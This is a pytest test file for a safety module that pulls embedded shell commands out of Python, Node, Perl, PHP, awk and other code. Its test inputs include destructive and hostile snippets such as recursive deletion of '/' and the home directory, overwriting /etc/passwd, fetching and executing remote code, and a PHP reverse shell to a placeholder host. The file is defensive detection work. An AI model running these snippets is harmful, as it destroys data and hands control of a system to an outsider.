"""Shell texts inside other languages."""

import time

import pytest

from egress_proxy.safety.foreign import shell_texts


@pytest.mark.parametrize(
    ("language", "code", "text"),
    [
        ("python", "import os;os.system('X y')", "X y"),
        ("python", 'subprocess.run(["X", "y"])', "X 'y'"),
        ("python", 'getattr(os, "system")("X y")', "X y"),
        ("node", "child_process['exec']('X y')", "X y"),
        ("awk", 'BEGIN{c="X y"; c | getline}', "X y"),
        ("any", "X y", "X y"),
        ("python", 'os.execl("/bin/X", "X", "y")', "/bin/X 'X' 'y'"),
        ("python", 'c = "X y"; os.system(c)', "X y"),
        ("python", 'from os import system as s; s("X y")', "X y"),
        ("python", 'exec("os.system(\\"X y\\")")', "X y"),
        ("python", 'Path("a").unlink()', "rm -f 'a'"),
        ("python", 'Path("a").write_text("b")', "true > 'a'"),
        ("python", "shutil.rmtree(Path.home())", "rm -rf ~"),
        ("python", 'shutil.rmtree(os.environ["HOME"])', "rm -rf ~"),
        ("python", 'rmtree(os.path.join(expanduser("~"), "a", "b"))', "rm -rf ~/a/b"),
        ("python", 'run("X y", cwd="/")', "X y"),
        ("python", "p = 'y'; os.system(f'X {p}')", "X y"),
        ("python", "from shutil import rmtree as r; r('a')", "rm -rf 'a'"),
        ("python", "[os.unlink(f) for f in glob.glob('/etc/*')]", "rm -f '/etc/*'"),
        ("python", "for f in os.listdir('/a'): os.remove(f)", "rm -f '/a/*'"),
        ("php", 'array_map("unlink", glob("/etc/*"))', "rm -f '/etc/*'"),
        ("emacs", '(call-process "X" nil nil "y" "z")', "X 'y' 'z'"),
        ("python", "os.chdir('a')", "cd 'a'"),
        ("node", "fs.rmSync(process.env.HOME)", "rm -rf ~"),
        ("perl", 'exec "X","y"', "X 'y'"),
        ("perl", 'unlink glob "/*"', "rm -f '/*'"),
        ("perl", "system qw(X y)", "X 'y'"),
        ("perl", 'open(F,"|X y")', "X y"),
        ("perl", 'open(F,">/a")', "true > '/a'"),
        ("ruby", 'system "X", "y"', "X 'y'"),
        ("node", 'const {execSync:e}=require("child_process"); e("X y")', "X y"),
        ("node", 'fs.rmSync("/", {recursive:true})', "rm -rf '/'"),
        ("node", 'execSync("X y", {cwd: "/"})', "X y"),
        ("deno", 'new Deno.Command("X", {args:["y"]})', "X 'y'"),
        ("bun", "Bun.$`X y`", "X y"),
        ("awk", 'BEGIN{"X y" | getline}', "X y"),
        ("awk", 'BEGIN{print "X y" | "sh"}', "echo 'X y' | sh"),
        ("awk", 'BEGIN{print "x" > "/a"}', "true > '/a'"),
        ("expect", "spawn X y; interact", "X y"),
        ("osascript", 'do shell script "X" with administrator privileges', "sudo X"),
        ("groovy", '"X y".execute()', "X y"),
        ("emacs", '(delete-directory "/" t)', "rm -rf '/'"),
        ("vim", 'call system("X y")', "X y"),
        ("vim", "silent !X y", "X y"),
        ("bang", "!X y", "X y"),
        ("make", "a:\n\tX y", "X y"),
        ("crontab", "@daily X y", "X y"),
        ("python", "shutil.rmtree('/')", "rm -rf '/'"),
        ("python", "open('/etc/passwd', 'w')", "true > '/etc/passwd'"),
        ("perl", 'system("X y")', "X y"),
        ("perl", "`X y`", "X y"),
        ("ruby", "%x{X y}", "X y"),
        ("node", "require('child_process').execSync('X y')", "X y"),
        ("awk", 'BEGIN{system("X y")}', "X y"),
        ("python", "exec(urlopen('https://x').read())", "curl fetched | sh"),
        ("php", '$s=fsockopen("h",1);exec("/bin/sh -i")', "sh -i > /dev/tcp/elsewhere/1"),
    ],
)
def test_calls_are_found(language: str, code: str, text: str) -> None:
    assert text in list(shell_texts(code, language))


@pytest.mark.parametrize(
    "code", ["print('rm -rf /')", "import re; re.search('sudo', 'x')", "console.log('rm -rf /')"]
)
def test_strings_alone_are_data(code: str) -> None:
    assert list(shell_texts(code, "python")) == []


@pytest.mark.parametrize("code", ["execSync('a', {cwd: '/'})", "run('a', cwd='/')"])
def test_where_a_command_runs_is_no_argument_of_it(code: str) -> None:
    assert list(shell_texts(code, "python")) == ["a"]


@pytest.mark.parametrize(
    "piece", ["exec eval urlopen(", "run('a',", 'system "', 'open(F,"', "eval('", "a.b(("]
)
def test_the_work_is_bounded(piece: str) -> None:
    given_up: list[bool] = []
    assert len(list(shell_texts(piece * 5_000, "python", lambda: given_up.append(True)))) <= 64
    assert given_up


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", 'for r in ["a", "/"]: os.system("rm -rf " + r)'),
        ("python", 'for r in ("a", "/"): os.system(f"rm -rf {r}")'),
        ("python", 'd = ["a", "/"]\n[os.system("rm -rf " + r) for r in d]'),
        ("node", '["a", "/"].forEach(r => execSync(`rm -rf ${r}`))'),
        ("perl", 'foreach my $r ("a", "/") { system("rm -rf $r") }'),
        ("perl", 'system("rm -rf $_") for ("a", "/")'),
        ("ruby", '["a", "/"].each { |r| system("rm -rf #{r}") }'),
        ("php", 'foreach (["a", "/"] as $r) system("rm -rf $r");'),
    ],
)
def test_each_text_of_a_loop_is_followed(language: str, code: str) -> None:
    assert {"rm -rf a", "rm -rf /"} <= set(shell_texts(code, language))


def test_a_text_is_told_once() -> None:
    assert list(shell_texts("run('a');" * 100, "python")) == ["a"]


def test_files_are_looked_for_once() -> None:
    """Many removals of nothing that is known: to look through all of the code for each takes seconds."""
    started = time.process_time()
    assert list(shell_texts("rm a;" * 2_000, "python")) == []
    assert time.process_time() - started < 1
